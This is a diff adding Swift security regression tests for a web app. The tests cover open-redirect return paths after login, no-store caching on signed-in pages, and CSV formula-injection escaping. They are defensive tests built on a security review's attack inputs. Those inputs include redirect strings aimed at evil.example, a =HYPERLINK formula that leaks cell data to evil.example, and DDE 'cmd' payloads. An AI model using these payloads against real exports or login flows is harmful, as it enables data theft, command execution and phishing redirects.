@@ -1,0 +1,76 @@
+import Foundation
+import HTTPTypes
+import Hummingbird
+import HummingbirdTesting
+import Testing
+import VliegwielCore
+
+@testable import VliegwielWeb
+
+/// The security review's medium findings M1, M4 and M5 (issue 17), each with the review's own
+/// attack as the test.
+@Suite struct HardeningWebTests {
+    /// M1: a return path never leads to another host, however the browser would read it.
+    @Test(
+        "A return path after login stays on this site",
+        arguments: [
+            ("/\t/evil.example/", "/"), ("/\n/evil.example/", "/"), ("/\r\n/evil.example", "/"),
+            ("//evil.example/", "/"), ("/\\evil.example/", "/"), ("/\\/evil.example", "/"),
+            ("https://evil.example/", "/"), ("evil.example", "/"), ("/ evil", "/"), ("/\u{0}x", "/"),
+            ("/arrangementen/regio-deal", "/arrangementen/regio-deal"),
+            ("/portefeuille?tranche=3#t3", "/portefeuille?tranche=3#t3"),
+            ("/%2F%2Fevil.example", "/%2F%2Fevil.example"),
+        ])
+    func returnPathStaysOnThisSite(given: String, kept: String) {
+        #expect(AccountRoutes.safeReturn(given) == kept)
+    }
+
+    @Test("The review's M1 request lands on the home page, not on another host")
+    func theReviewsRedirectIsRefused() async throws {
+        let fixture = try await AccountWebFixture()
+        let secret = try await fixture.makeAccount("lezer1", .reader)
+        try await fixture.test { client in
+            var fields = [("naam", "lezer1"), ("wachtwoord", AccountWebFixture.password)]
+            fields.append(("code", AccountSecrets.totpCode(secret: secret!, at: fixture.clock.now)))
+            fields.append(("terug", "/\t/127.0.0.2:18999/after-login"))
+            let response = try await client.execute(
+                uri: AccountURL.login, method: .post, headers: [.contentType: "application/x-www-form-urlencoded"],
+                body: ByteBuffer(string: AccountWebFixture.form(fields)))
+            #expect(response.status == .seeOther)
+            #expect(response.headers[.location] == "/")
+            // The login form does not carry the value into its hidden field either.
+            let page = try await client.get("/inloggen?terug=%2F%09%2Fevil.example%2F").text
+            #expect(!page.contains("evil.example"))
+        }
+    }
+
+    /// M5: no page of a signed-in session is kept by a browser or proxy.
+    @Test("Every page of a signed-in session says no-store")
+    func signedInPagesAreNotStored() async throws {
+        let fixture = try await AccountWebFixture()
+        try await fixture.test { client in
+            let visitor = try await fixture.signedIn(client, "beheer", .administrator)
+            for path in ["/account", "/beheer/audit", "/", "/arrangementen/regio-deal"] {
+                let response = try await visitor.get(path)
+                #expect(response.status == .ok, "\(path)")
+                #expect(response.headers[.cacheControl] == "no-store", "\(path)")
+            }
+        }
+    }
+
+    /// M4: the review's payloads come out as text in a spreadsheet, numbers stay numbers.
+    @Test(
+        "A CSV cell never starts a formula",
+        arguments: [
+            (
+                "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik hier\")",
+                "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik hier\")"
+            ),
+            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("@SUM(1+1)*cmd|x", "'@SUM(1+1)*cmd|x"),
+            ("+31 6 12", "'+31 6 12"), ("\t=1+1", "'\t=1+1"), ("\r=1", "'\r=1"), ("-", "'-"),
+            ("-2", "-2"), ("+3,5", "+3,5"), ("-12.50", "-12.50"), ("Gemeente Assen", "Gemeente Assen"), ("", ""),
+        ])
+    func csvCellsAreText(value: String, written: String) {
+        #expect(SpreadsheetCell.safe(value) == written)
+    }
+}
